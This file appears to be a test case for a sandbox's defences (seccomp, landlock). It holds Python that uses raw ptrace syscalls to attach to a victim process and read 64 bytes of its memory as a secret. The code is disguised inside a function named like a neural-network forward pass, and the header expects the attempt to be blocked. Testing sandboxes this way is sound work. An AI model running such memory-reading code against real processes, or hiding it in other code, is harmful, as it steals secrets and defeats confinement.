# what: Attach to another process as a debugger and read its memory.
# verdict: raised
# breach: secret: a word from the other process's memory is the answer
# defence: seccomp landlock identity capabilities
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)


def syscall(number, *arguments):
    wide = [ctypes.c_long(item) if isinstance(item, int) else item for item in arguments]
    result = libc.syscall(ctypes.c_long(number), *wide)
    if result == -1:
        error = ctypes.get_errno()
        raise OSError(error, os.strerror(error))
    return result


def forward(x, w1, w2, b):
    victim, address = int("@victim@"), int("@address@")
    syscall(101, 16, victim, 0, 0)
    os.waitpid(victim, 0x40000000)
    words = b""
    for offset in range(0, 64, 8):
        word = ctypes.c_ulong()
        syscall(101, 2, victim, address + offset, ctypes.byref(word))
        words += bytes(word)
    syscall(101, 17, victim, 0, 0)
    return words
